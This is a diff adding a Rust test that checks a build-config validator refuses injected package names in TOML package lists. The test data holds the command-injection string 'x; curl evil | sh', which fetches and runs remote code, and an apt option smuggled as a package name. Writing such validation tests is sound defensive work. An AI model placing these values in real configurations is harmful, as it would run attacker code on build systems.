@@ -406,6 +406,23 @@ fn package_lists_come_from_the_shared_base_and_extras_add_to_them() {
 }
 
 #[test]
+fn a_hostile_extra_package_is_refused() {
+    let s = Scratch::new();
+    bad(
+        &s,
+        &good("\n[build]\nbuilder_packages_extra = [\"ok\", \"x; curl evil | sh\"]\n"),
+        "r.toml",
+        &["builder_packages", "x; curl evil | sh"],
+    );
+    bad(
+        &s,
+        &good("\n[image]\nruntime_packages_extra = [\"-oAPT::Get=evil\"]\n"),
+        "r.toml",
+        &["runtime_packages", "-oAPT::Get=evil"],
+    );
+}
+
+#[test]
 fn a_broken_shared_package_list_names_its_file() {
     let s = Scratch::new();
     std::fs::write(
